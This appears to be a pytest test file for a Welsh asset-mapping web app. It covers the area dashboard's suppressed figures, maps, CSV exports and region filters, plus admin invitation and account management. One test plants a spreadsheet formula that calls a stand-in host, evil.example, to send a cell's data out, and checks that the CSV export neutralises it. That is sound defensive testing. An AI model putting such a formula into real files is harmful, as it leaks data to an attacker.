"""Coordinators' area dashboard and admins' account pages through the test client."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import datetime

import pytest
from babel.dates import get_month_names

from assetmap.graph.store import GraphStore
from assetmap.services import analysis
from assetmap.services.finder import WALES_TIME
from tests.conftest import csrf_token, form_errors
from tests.site import map_spec


@pytest.fixture
def analysed(sample_store: GraphStore) -> GraphStore:
    analysis.run_analysis(sample_store)
    return sample_store


class TestAreas:
    @pytest.mark.parametrize("role", ["connector", "admin"])
    def test_only_coordinators(self, client, sign_in, role: str) -> None:  # noqa: ANN001
        sign_in(role)
        assert client.get("/areas/").status_code == 403
        assert client.get("/areas/hotspots.csv").status_code == 403

    def test_map_table_and_csv_hold_the_suppressed_figures(self, client, sign_in,  # noqa: ANN001
                                                          analysed: GraphStore) -> None:
        sign_in("coordinator", "org-council")
        stored = analysis.hotspots(analysed, "small_area")
        html = client.get("/areas/?level=small_area&measure=at_risk_rate").get_data(as_text=True)
        assert html.count('<th scope="row">') == len(stored) > 0
        drawn = map_spec(html)["layers"][0]
        assert [area["id"] for area in drawn["areas"]] == [row["id"] for row in stored]
        shapes = client.get(drawn["shapes"])
        assert shapes.status_code == 200 and shapes.cache_control.private
        assert {row["id"] for row in stored} <= set(shapes.get_json()), "one shape per area"
        withheld = sum(row["at_risk_rate"] is None for row in stored)
        hatched = [area for area in drawn["areas"] if area["value"] == "withheld (small numbers)"]
        assert len(hatched) == withheld, "the tooltips"
        assert all(drawn["styles"][area["style"]]["fillColor"] == "url(#withheld-hatch)"
                   for area in hatched), "withheld areas are hatched"
        assert (f"withheld (small numbers): {withheld} area" in html) == bool(withheld), (
            "the legend counts them")
        response = client.get("/areas/hotspots.csv?level=small_area")
        assert response.mimetype == "text/csv"
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        assert [r["id"] for r in rows] == [r["id"] for r in stored]
        for row, figures in zip(rows, stored, strict=True):
            expected = figures["at_risk"]
            assert row["at_risk"] == ("withheld" if expected is None else str(expected))
        assert not any(row["n"] in html for row in analysed.run_read(
            "MATCH (p:Person) RETURN p.name AS n LIMIT 50")), "no individual on the page"

    def test_not_assessed_nobody_and_withheld_read_apart(  # noqa: ANN001
            self, client, sign_in, sample_store: GraphStore, config, acting) -> None:
        """Only Powys has small areas loaded: Ceredigion, with a person recorded in
        Aberystwyth, has access "not assessed: needs small areas"; the 20 authorities with
        nobody recorded say so, never "withheld"; wards, whose population is not known,
        have access per resident "not assessed: population not known". Table, map, key,
        CSV."""
        from assetmap import boundaries
        from assetmap.services import areas
        from assetmap.services import people as people_service

        areas.import_areas(sample_store, boundaries.bundled(["local_authority",
                                                            "health_board"]))
        people_service.create(sample_store, {"name": "Aberystwyth Resident", "lat": 52.415,
                                             "lon": -4.083}, "org-council", acting,
                              config.instance_path)
        analysis.run_analysis(sample_store)
        sign_in("coordinator", "org-council")
        stored = {r["id"]: r for r in analysis.hotspots(sample_store, "local_authority")}
        assert stored["W06000008"]["people"] is None  # one person: withheld
        assert stored["W06000008"]["access_missing"] == "small_areas"
        assert stored["W06000023"]["access_missing"] is None
        nobody = [code for code, row in stored.items() if row["people"] == 0]
        assert len(nobody) == 20
        html = client.get("/areas/?level=local_authority&measure=access_per_1000").get_data(
            as_text=True)
        assert html.count("not assessed: needs small areas") == 3  # two cells, one tooltip
        assert "not assessed: 1 area, a dotted blue outline" in html
        assert "nobody recorded: 20 areas, a plain outline" in html
        assert "withheld (small numbers):" not in html
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(client.get(
            "/areas/hotspots.csv?level=local_authority").get_data(as_text=True)))}
        assert rows["W06000008"]["asset_desert"] == "not assessed"
        assert float(rows["W06000023"]["access_per_1000"]) >= 0  # assessed: a number
        assert all(rows[code]["at_risk_rate"] == "" for code in nobody)
        wards = client.get("/areas/?level=ward&measure=asset_desert").get_data(as_text=True)
        assert "not assessed: population not known" in wards

    def test_a_region_shows_only_the_areas_inside_it(self, client, sign_in,  # noqa: ANN001
                                                     analysed: GraphStore) -> None:
        """Within a health board its authorities, within an authority its wards: table,
        map and CSV; a code that is not a region is refused."""
        from assetmap import boundaries
        from assetmap.services import areas

        areas.import_areas(analysed, boundaries.bundled(["local_authority", "health_board"]))
        analysis.run_analysis(analysed)
        sign_in("coordinator", "org-council")
        wards = {row["id"] for row in analysis.hotspots(analysed, "ward")}
        html = client.get("/areas/?level=ward&within=W06000023").get_data(as_text=True)
        assert html.count('<th scope="row">') == len(wards) > 0  # the sample's wards
        board = client.get("/areas/?level=local_authority&within=W11000025").get_data(
            as_text=True)  # Hywel Dda: Ceredigion, Pembrokeshire, Carmarthenshire
        assert board.count('<th scope="row">') == len(map_spec(board)["layers"][0]["areas"]) == 3
        assert '<span class="govuk-hint">W06000008</span>' in board
        assert '<span class="govuk-hint">W06000023</span>' not in board
        rows = list(csv.DictReader(io.StringIO(client.get(
            "/areas/hotspots.csv?level=local_authority&within=W11000025").get_data(
                as_text=True))))
        assert sorted(r["id"] for r in rows) == ["W06000008", "W06000009", "W06000010"]
        refused = client.get("/areas/?level=ward&within=W99")
        assert refused.status_code == 400 and "within: no health board or local authority" in (
            refused.get_data(as_text=True))

    def test_csv_cells_a_spreadsheet_would_run_are_neutralised(self, client, sign_in,  # noqa: ANN001
                                                                analysed: GraphStore) -> None:
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Powys")'
        analysed.run_write("MATCH (a:Area {level: 'ward'}) WITH a LIMIT 1 SET a.name = $n",
                           n=formula)
        analysis.run_analysis(analysed)
        sign_in("coordinator", "org-council")
        text = client.get("/areas/hotspots.csv?level=ward").get_data(as_text=True)
        names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
        assert "'" + formula in names and formula not in names
        assert all(not name.startswith(("=", "+", "-", "@")) for name in names)

    def test_asset_desert_map(self, client, sign_in, analysed: GraphStore) -> None:  # noqa: ANN001
        sign_in("coordinator")
        stored = analysis.hotspots(analysed, "small_area")
        html = client.get("/areas/?level=small_area&measure=asset_desert").get_data(
            as_text=True)
        deserts = sum(row["asset_desert"] is True for row in stored)
        assert html.count('"value": "yes"') == deserts
        assert html.count('"value": "no"') == sum(row["asset_desert"] is False for row in stored)

    def test_bad_level_is_400(self, client, sign_in) -> None:  # noqa: ANN001
        sign_in("coordinator")
        assert client.get("/areas/?level=street").status_code == 400
        assert client.get("/areas/?measure=names").status_code == 400

    def test_run_in_the_background_and_see_changes(self, client, sign_in,  # noqa: ANN001
                                                   analysed: GraphStore) -> None:
        sign_in("coordinator", "org-council")
        page = client.get("/areas/")
        started = client.post("/areas/runs",
                              data={"csrf_token": csrf_token(page.get_data(as_text=True))})
        assert started.status_code == 302
        status_url = started.headers["Location"]
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            state = client.get(status_url, headers={"Accept": "application/json"}).get_json()
            if state["state"] != "running":
                break
            time.sleep(0.2)
        assert state["state"] == "finished" and state["run_id"]
        for language in ("en", "cy"):  # times in words in the page's language, not ISO
            page = client.get(f"{status_url}?lang={language}").get_data(as_text=True)
            finished = datetime.fromisoformat(state["finished_at"])
            month = get_month_names(locale=language)[finished.astimezone(WALES_TIME).month]
            assert not re.search(r"\d{4}-\d\d-\d\dT", page), "no raw ISO timestamp"
            assert f"{month} {finished.year}" in page
        rows = analysed.run_read("MATCH (a:Area {level: 'ward'}) "
                                 "RETURN a.previous_figures IS NOT NULL AS kept")
        assert all(row["kept"] for row in rows), "the last run's figures kept for changes"
        page = client.get("/areas/?level=ward").get_data(as_text=True)
        assert "(+0.0)" not in page, "no change is no noise"
        # the sample's wards are small (their rates withheld): give one a rate that moved
        ward = analysis.hotspots(analysed, "ward")[0]
        now = {k: v for k, v in ward.items() if k != "name_cy"} | {
            "people": 20, "at_risk": 6, "at_risk_rate": 30.0}
        analysed.run_write("MATCH (a:Area {id: $id}) SET a.figures = $now, "
                           "a.previous_figures = $before", id=ward["id"],
                           now=json.dumps(now), before=json.dumps(now | {"at_risk_rate": 20.0}))
        assert "(+10.0)" in client.get("/areas/?level=ward").get_data(as_text=True)


class TestAdmin:
    def test_only_admins(self, client, sign_in) -> None:  # noqa: ANN001
        sign_in("connector")
        assert client.get("/admin/users").status_code == 403

    def test_an_admin_invites_and_never_knows_the_password(self, app, client, sign_in,  # noqa: ANN001
                                                          sample_store: GraphStore) -> None:
        """An admin cannot read people's records through an account they make: the new
        user chooses their own password through a one-time link; until then nobody can
        sign in as them."""
        from assetmap import accounts
        from tests.conftest import AuthActions
        sign_in("admin", "org-council")
        page = client.get("/admin/users")
        response = client.post("/admin/users", data={
            "email": "Dewi@Example.Cymru", "name": "Dewi", "role": "connector",
            "organisation_id": "org-cvc", "csrf_token": csrf_token(page.get_data(as_text=True))})
        html = response.get_data(as_text=True)
        link = re.search(r"<code>(http://[^<]+/welcome/[^<]+)</code>", html).group(1)
        assert "Password" not in re.search(r'id="invitation-link">(.*?)</div>', html,
                                            re.S).group(1)
        assert "has not chosen a password yet" in client.get("/admin/users").get_data(
            as_text=True) and "<code>" not in client.get("/admin/users").get_data(as_text=True)

        dewi = app.test_client()
        path = link.split("localhost", 1)[1]
        form = dewi.get(path)
        assert form.status_code == 200 and "dewi@example.cymru" in form.get_data(as_text=True)
        weak = dewi.post(path, data={"new_password": "password123456",
                                     "repeat_password": "password123456",
                                     "csrf_token": csrf_token(form.get_data(as_text=True))})
        assert weak.status_code == 400 and "new_password" in form_errors(
            weak.get_data(as_text=True))
        chosen = "mae'r gwartheg yn pori ar y ffridd"
        done = dewi.post(path, data={"new_password": chosen, "repeat_password": chosen,
                                     "csrf_token": csrf_token(form.get_data(as_text=True))})
        assert done.status_code == 302 and done.headers["Location"] == "/login"
        assert dewi.get(path).status_code == 404, "the link works once"
        assert AuthActions(dewi).login("dewi@example.cymru", chosen).status_code == 302
        assert accounts.users.by_email(sample_store, "dewi@example.cymru").get(
            "invitation_hash") is None

    def test_an_invitation_expires_and_can_be_renewed(self, client, sign_in,  # noqa: ANN001
                                                      sample_store: GraphStore) -> None:
        from assetmap import accounts
        user, token = accounts.invite_user(sample_store, "late@example.cymru", "connector",
                                           "org-cvc")
        assert accounts.authenticate(sample_store, "late@example.cymru", token) is None
        sample_store.run_write("MATCH (u:User {id: $id}) SET u.invitation_expires = "
                               "'2020-01-01T00:00:00+00:00'", id=user["id"])
        assert client.get(f"/welcome/{token}").status_code == 404, "expired"
        sign_in("admin", "org-council")
        page = client.get("/admin/users").get_data(as_text=True)
        renewed = client.post(f"/admin/users/{user['id']}/invitation",
                              data={"csrf_token": csrf_token(page)}).get_data(as_text=True)
        fresh = re.search(r"/welcome/([^<]+)</code>", renewed).group(1)
        assert fresh != token and client.get(f"/welcome/{fresh}").status_code == 200

    @pytest.mark.parametrize("data,field", [
        ({"email": "not-an-email", "role": "connector", "organisation_id": "org-cvc"}, "email"),
        ({"email": "a@b.cymru", "role": "wizard", "organisation_id": "org-cvc"}, "role"),
        ({"email": "a@b.cymru", "role": "connector", "organisation_id": ""}, "organisation_id"),
        ({"email": "a@b.cymru", "role": "connector", "organisation_id": "org-x"},
         "organisation_id"),
    ])
    def test_bad_user_input(self, client, sign_in, data: dict, field: str) -> None:  # noqa: ANN001
        sign_in("admin")
        page = client.get("/admin/users")
        response = client.post("/admin/users", data={
            **data, "csrf_token": csrf_token(page.get_data(as_text=True))})
        assert response.status_code == 400
        assert field in form_errors(response.get_data(as_text=True))

    def test_deactivate_and_role(self, client, sign_in, sample_store: GraphStore) -> None:  # noqa: ANN001
        from assetmap import accounts
        user, password = accounts.create_user(sample_store, "gwyn@example.cymru", "connector",
                                              "org-cvc")
        me = sign_in("admin")
        page = client.get("/admin/users").get_data(as_text=True)
        client.post(f"/admin/users/{user['id']}", data={"role": "coordinator",
                                                        "csrf_token": csrf_token(page)})
        client.post(f"/admin/users/{user['id']}", data={"active": "false",
                                                        "csrf_token": csrf_token(page)})
        assert accounts.authenticate(sample_store, "gwyn@example.cymru", password) is None
        client.post(f"/admin/users/{me['id']}", data={"active": "false",
                                                      "csrf_token": csrf_token(page)})
        assert client.get("/admin/users").status_code == 200, "cannot lock yourself out"
        refused = client.post(f"/admin/users/{user['id']}", data={
            "role": "superuser", "csrf_token": csrf_token(page)}, follow_redirects=True)
        said = refused.get_data(as_text=True)
        assert "Not changed: Role: must be one of" in said, "the field's label, not its name"
        welsh = client.post(f"/admin/users/{user['id']}?lang=cy", data={
            "role": "superuser", "csrf_token": csrf_token(page)}, follow_redirects=True)
        assert "Not changed" not in welsh.get_data(as_text=True)

    def test_organisations(self, client, sign_in, sample_store: GraphStore) -> None:  # noqa: ANN001
        sign_in("admin")
        page = client.get("/admin/organisations").get_data(as_text=True)
        response = client.post("/admin/organisations", data={
            "id": "org-ceredigion", "name": "Ceredigion Carers", "kind": "carers",
            "csrf_token": csrf_token(page)})
        assert response.status_code == 302
        bad = client.post("/admin/organisations", data={
            "id": "bad id!", "name": "", "kind": "carers", "csrf_token": csrf_token(page)})
        assert bad.status_code == 400
        assert set(form_errors(bad.get_data(as_text=True))) >= {"id", "name"}
